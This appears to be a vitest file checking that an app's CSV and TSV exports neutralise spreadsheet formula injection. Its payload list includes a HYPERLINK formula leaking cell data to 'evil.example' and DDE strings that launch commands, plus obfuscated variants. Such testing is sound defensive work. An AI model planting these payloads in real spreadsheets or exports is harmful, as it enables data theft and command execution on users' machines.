import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Grant } from '@/lib/domain/grant/grant';
import type { FormatHead, WriteFormat } from '@/lib/exports/export-format';
import { formats } from '@/lib/exports/formats';
import { grantColumns } from '@/lib/exports/grant-columns';
import { writeExport } from '@/lib/exports/write-export';
import { grantsOf, logOfGrants, sourceOf, textOf } from '../unit/exports/sample-log';

/** Texts that some spreadsheet calculates. */
const formulas = [
  '=1+1',
  '+1 202 555 0100',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '"=1+1"',
  'text";=1+1',
  'text;=1+1',
  'text\t=1+1',
  'first line\n=1+1',
  'first line\r\n@SUM(A1)',
];

/** Texts that some spreadsheet turns into a date, a number or a truth value. */
const converted = [
  'MAR1',
  'SEPT2',
  '2-3',
  '1/2',
  '12-dec',
  'Mar 5, 2026',
  'March 5, 2026 10:30',
  '5 March 2026 1:30 pm',
  '10:30',
  '0012345',
  '1E5',
  '1 1/2',
  '5-',
  '5%',
  '5 %',
  '(5)',
  '$5',
  '5 €',
  'TRUE',
];

const hostile = [...formulas, ...converted];

/** Tables for importers, which take every value as it was logged; a further one has to be argued for here. */
const takenAsLogged = ['csv-machine', 'vanta', 'jira-csv', 'servicenow'];

const separators: Readonly<Record<string, string>> = { 'text/csv': ',', 'text/tab-separated-values': '\t' };
const separatorOf = ({ mime }: Pick<FormatHead, 'mime'>) => separators[mime.split(';')[0] ?? ''];

/** Reads the cells of a table as spreadsheets do, broken quotes included. */
function cellsOf(head: Pick<FormatHead, 'mime'>, text: string): string[] {
  const delimiter = separatorOf(head);
  if (delimiter === undefined) throw new Error(`No spreadsheet opens ${head.mime} that this test can read.`);
  return (parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
}

/** Tells whether a cell is calculated, also by a spreadsheet that begins a new one at a semicolon, a tab or a line's end. */
const calculates = (cell: string) =>
  cell
    .split(/[;\t\r\n]/)
    .some((piece, at) => /^[=+\-@＝＋－＠]/.test(piece.replace(at === 0 ? /^[\s\p{C}]+/u : /^[\s"\p{C}]+/u, '')));

/** Leaves what every format keeps of a text: neither white space, controls nor quotes. */
const ink = (text: string) => text.replace(/[\s\p{C}'"]/gu, '');

const mark = { seq: 2, at: '2026-11-20T09:02:00.000Z', basis: 'observed' } as const;

/** A log whose one grant says the text wherever it can say any. */
function logSaying(text: string) {
  const said = { ticket: text, email: text, purpose: text, scope: [text], approvedBy: text, reason: text };
  const entries = logOfGrants([{ ...said, vendor: text }]);
  const person = { name: text, email: text };
  const grant: Grant = {
    ...(grantsOf(entries)[0] as Grant),
    generation: text,
    refine: { add: [text], drop: [] },
    role: text,
    recommended: { role: text, scopeRole: text },
    access: [{ name: text, role: text }],
    grantedBy: person,
    exceptions: [{ seq: 4, recommended: text, chosen: text, justification: text }],
    keys: [
      { seq: 5, ...person, owner: text, purpose: text, scope: text, permissions: text, expires: null, rotateDays: 9 },
    ],
    review: { ...mark, seq: 6, decision: 'keep', by: person, reason: text, own: false },
    removal: { ...mark, seq: 7, by: person, reason: text },
    milestones: { invited: mark, removed: { ...mark, seq: 8, by: person } },
  };
  return { ...sourceOf(entries, [grant]), ticketUrl: (ticket: string) => ticket };
}

/** Returns the cells of an export that a spreadsheet would calculate or turn into something else. */
async function armed(head: Pick<FormatHead, 'mime'>, write: WriteFormat, text: string): Promise<string[]> {
  const cells = cellsOf(head, await textOf(write(logSaying(text))));
  expect(ink(cells.join(''))).toContain(ink(text));
  return cells.filter((cell) => calculates(cell) || converted.includes(cell));
}

describe.each(formats.filter(({ opensIn }) => opensIn === 'spreadsheet'))(
  '$label, which a spreadsheet opens',
  (format) => {
    it.each(hostile)('disarms %j', async (text) => {
      expect(await armed(format, (source) => writeExport(format.id, source), text)).toEqual([]);
    });
  },
);

describe('a toy format: TSV for pasting into a sheet', () => {
  const head = { mime: 'text/tab-separated-values' };

  it.each(hostile)('is found to write %j as it stands', async (text) => {
    async function* write(source: Parameters<WriteFormat>[0]) {
      for await (const grants of source.grants()) {
        yield grants.map(({ ticket, email, reason }) => `${[ticket, email, reason].join('\t')}\n`).join('');
      }
    }

    expect(await armed(head, write, text)).not.toEqual([]);
  });
});

describe('the formats', () => {
  it('say of every table whether a spreadsheet opens it, or an importer that takes values as logged', () => {
    const tables = formats.filter((format) => separatorOf(format) !== undefined);

    expect(tables.filter(({ opensIn }) => opensIn !== 'spreadsheet').map(({ id }) => id)).toEqual(takenAsLogged);
  });

  it('put every text into a cell: no column is left out here', async () => {
    const text = await textOf(writeExport('csv-machine', logSaying('=1+1')));
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    const theirs = grantColumns.filter(({ ours }) => ours === undefined).map(({ header }) => header);

    expect(theirs.filter((header) => !row?.[header]?.includes('=1+1'))).toEqual([]);
  });
});
